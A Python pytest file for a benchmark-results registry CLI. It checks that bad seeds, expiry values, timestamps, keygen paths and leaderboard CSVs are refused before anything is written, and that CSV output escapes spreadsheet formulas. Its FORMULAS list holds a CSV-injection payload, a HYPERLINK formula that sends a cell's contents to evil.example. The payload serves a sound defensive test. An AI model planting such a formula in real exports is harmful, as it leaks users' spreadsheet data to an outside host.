"""Outside input at the registry's commands: every bad option, file or environment value ends in one line
on stderr and exit 2 before anything is written (the releases, the timestamp, the keys, the keyring stay
byte for byte as they were); a spreadsheet formula in a name never reaches a CSV cell as a formula."""
import csv
import io
import json

import pytest

from registry.ranking import load_results
from registry.release import publish
from registry.verify import verify_registry
from tests.registry.helpers import DEFAULT_METHODS, write_results


def _files(*roots):
    """Every file under the roots with its bytes: what 'nothing written' compares."""
    return {str(p): p.read_bytes() for r in roots if r.exists() for p in sorted(r.rglob("*")) if p.is_file()}


def _one_line_exit_2(code, err):
    assert code == 2, err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err


@pytest.fixture
def registry(tmp_path, keys):
    """One published release, its keys and a second set of results to publish next."""
    key, ring = keys
    rel = tmp_path / "releases"
    publish(load_results([write_results(tmp_path / "res-1")]), rel, "1.0.0", [key], keyring=ring, resamples=50,
            repo=tmp_path)
    return rel, tmp_path / "keys", write_results(tmp_path / "res-2", dict(DEFAULT_METHODS, idc=(0.93, 0.8)))


def _publish_args(rel, keys, results, *extra):
    return ("registry", "publish", "1.1.0", "--results", str(results), "--releases", str(rel), "--key",
            str(keys / "maint.key"), "--keyring", str(keys / "keyring.json"), "--resamples", "50", "--no-mlflow",
            *extra)


@pytest.mark.parametrize("option", [("--seed", "-1"), ("--seed", str(2**32)), ("--resamples", "0")])
def test_publish_refuses_bad_bootstrap_options_before_writing(registry, ddr_cli, option):
    rel, keys, results = registry
    before = _files(rel, keys)
    code, _, err = ddr_cli(*_publish_args(rel, keys, results)[:-3], "--no-mlflow", *option)
    _one_line_exit_2(code, err)
    assert _files(rel, keys) == before


@pytest.mark.parametrize("seed", ["-1", str(2**32)])
def test_rank_refuses_a_bad_seed_before_ranking(registry, ddr_cli, tmp_path, seed):
    """`ddr rank --seed -1` ended in numpy's traceback after loading every result; now one line, no --out."""
    _, _, results = registry
    code, out, err = ddr_cli("rank", str(results), "--seed", seed, "--out", str(tmp_path / "ranked"))
    _one_line_exit_2(code, err)
    assert "--seed must be an integer from 0 to 2**32 - 1" in err and not out
    assert not (tmp_path / "ranked").exists()


PUBLISH_EXPIRES = ["0", "nan", "inf", "-1", "1e9", "-inf"]


@pytest.mark.parametrize("days", PUBLISH_EXPIRES)
def test_publish_refuses_bad_expiry_before_writing(registry, ddr_cli, days):
    rel, keys, results = registry
    before = _files(rel, keys)
    code, _, err = ddr_cli(*_publish_args(rel, keys, results, "--expires-days", days))
    _one_line_exit_2(code, err)
    assert "--expires-days" in err
    assert _files(rel, keys) == before


def test_after_a_refused_expiry_the_registry_verifies_and_the_version_publishes(registry, ddr_cli):
    rel, keys, results = registry
    assert ddr_cli(*_publish_args(rel, keys, results, "--expires-days", "0"))[0] == 2
    code, _, err = ddr_cli("registry", "verify", "--releases", str(rel), "--keyring", str(keys / "keyring.json"))
    assert code == 0, err
    code, _, err = ddr_cli(*_publish_args(rel, keys, results, "--expires-days", "7"))
    assert code == 0, err
    assert ddr_cli("registry", "verify", "--releases", str(rel), "--keyring", str(keys / "keyring.json"))[0] == 0


@pytest.mark.parametrize("epoch", ["1", "86400000"])  # 1970, and 1972: both long expired by now
def test_publish_refuses_an_already_expired_timestamp(registry, ddr_cli, monkeypatch, epoch):
    rel, keys, results = registry
    before = _files(rel, keys)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    code, _, err = ddr_cli(*_publish_args(rel, keys, results))
    _one_line_exit_2(code, err)
    assert "expired" in err
    assert _files(rel, keys) == before


TIMESTAMP_INPUTS = [("nan", None), ("inf", None), ("1e9", None), ("0", None), ("-5", None), ("30", "1"),
                    ("30", "99999999999999")]


@pytest.mark.parametrize("days, epoch", TIMESTAMP_INPUTS)
def test_timestamp_refuses_bad_expiry_and_expired_stamps(registry, ddr_cli, monkeypatch, days, epoch):
    rel, keys, _ = registry
    before = _files(rel, keys)
    if epoch:
        monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    code, _, err = ddr_cli("registry", "timestamp", "--releases", str(rel), "--key", str(keys / "maint.key"),
                           "--keyring", str(keys / "keyring.json"), "--expires-days", days)
    _one_line_exit_2(code, err)
    assert _files(rel, keys) == before


def test_a_good_timestamp_still_verifies(registry):
    from registry.freshness import write_timestamp
    from registry.keyring import Keyring, load_private_key

    rel, keys, _ = registry
    write_timestamp(rel, "1.0.0", [load_private_key(keys / "maint.key")], expires_days=3660)
    assert verify_registry(rel, Keyring.load(keys / "keyring.json")).ok


KEYGEN_INPUTS = ["out-under-a-file", "keyring-under-a-file", "threshold-0", "threshold-negative", "threshold-above"]


@pytest.mark.parametrize("case", KEYGEN_INPUTS)
def test_keygen_checks_every_path_and_option_first(tmp_path, ddr_cli, case):
    (tmp_path / "a-file").write_text("")
    out, ring = tmp_path / "keys" / "k.key", tmp_path / "keys" / "keyring.json"
    extra = []
    if case == "out-under-a-file":
        out = tmp_path / "a-file" / "k.key"
    elif case == "keyring-under-a-file":
        ring = tmp_path / "a-file" / "keyring.json"
    else:
        extra = ["--threshold", {"threshold-0": "0", "threshold-negative": "-1", "threshold-above": "2"}[case]]
    before = _files(tmp_path)
    code, _, err = ddr_cli("registry", "keygen", "--out", str(out), "--keyring", str(ring), *extra)
    _one_line_exit_2(code, err)
    assert _files(tmp_path) == before and not (tmp_path / "keys").exists()


BOARD = ("method,method_reference,verified,date,dataset,ipc,label_type,hlr,ior\n"
         "DM,ref,yes,2024-01-01,CIFAR-10,10,hard,10.5,5.0\n")
BAD_BOARDS = {
    "same-cell-other-values": BOARD + "DM,ref,yes,2024-02-01,CIFAR-10,10,hard,12.0,5.0\n",
    "same-cell-other-spelling": BOARD + "dm,ref2,no,2024-02-01,cifar10,10,Hard,10.5,5.0\n",
    "same-cell-same-values": BOARD + "DM,ref,yes,2024-01-01,CIFAR-10,10,hard,10.5,5.0\n",
    "empty-data-set": BOARD + "MTT,ref,yes,2024-01-01,,10,hard,10.5,5.0\n",
    "punctuation-data-set": BOARD + "MTT,ref,yes,2024-01-01,--,10,hard,10.5,5.0\n",
}


@pytest.mark.parametrize("name", sorted(BAD_BOARDS))
def test_leaderboard_refuses_duplicate_cells_and_empty_data_sets(tmp_path, ddr_cli, name):
    p = tmp_path / "board.csv"
    p.write_text(BAD_BOARDS[name])
    code, _, err = ddr_cli("leaderboard", "import", str(p))
    _one_line_exit_2(code, err)
    if name.startswith("same-cell"):
        assert "rows 2 and 3" in err, err
    else:
        assert "empty data set" in err, err


def test_publish_with_a_bad_leaderboard_writes_nothing(registry, ddr_cli, tmp_path):
    rel, keys, results = registry
    p = tmp_path / "board.csv"
    p.write_text(BAD_BOARDS["same-cell-other-values"])
    before = _files(rel, keys)
    code, _, err = ddr_cli(*_publish_args(rel, keys, results, "--leaderboard", str(p)))
    _one_line_exit_2(code, err)
    assert _files(rel, keys) == before


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_every_csv_output_escapes_formulas(tmp_path, keys, ddr_cli):
    """ranking.csv, `show --format csv` and `show --format ddranking-csv`: no text cell starts a formula."""
    key, ring = keys
    methods = dict(DEFAULT_METHODS, **{f: (0.85 - i / 100, 0.8) for i, f in enumerate(FORMULAS)})
    rel = tmp_path / "releases"
    publish(load_results([write_results(tmp_path / "res", methods)]), rel, "1.0.0", [key], keyring=ring,
            resamples=50, repo=tmp_path)
    for fmt, column in (("csv", "method"), ("ddranking-csv", "method")):
        code, out, err = ddr_cli("registry", "show", "1.0.0", "--releases", str(rel), "--format", fmt)
        assert code == 0, err
        rows = list(csv.DictReader(io.StringIO(out)))
        shown = [r[column] for r in rows]
        for f in FORMULAS:
            assert "'" + f in shown, (fmt, f, shown)
        for r in rows:
            for k, v in r.items():
                if k not in ("mean", "std", "hlr", "ior", "vs_random_lo", "vs_random_hi"):
                    assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (fmt, k, v)
    assert json.loads((rel / "1.0.0" / "ranking.json").read_text())["tables"][0]["rows"]  # the signed data is raw


@pytest.mark.parametrize("where", ["under-a-file", "a-file"])
def test_rank_checks_out_before_ranking(tmp_path, ddr_cli, where):
    (tmp_path / "a-file").write_text("")
    out = tmp_path / "a-file" / "ranking" if where == "under-a-file" else tmp_path / "a-file"
    before = _files(tmp_path)
    code, _, err = ddr_cli("rank", str(write_results(tmp_path / "res")), "--out", str(out))
    _one_line_exit_2(code, err)
    assert "--out" in err and _files(tmp_path) == before | _files(tmp_path / "res")
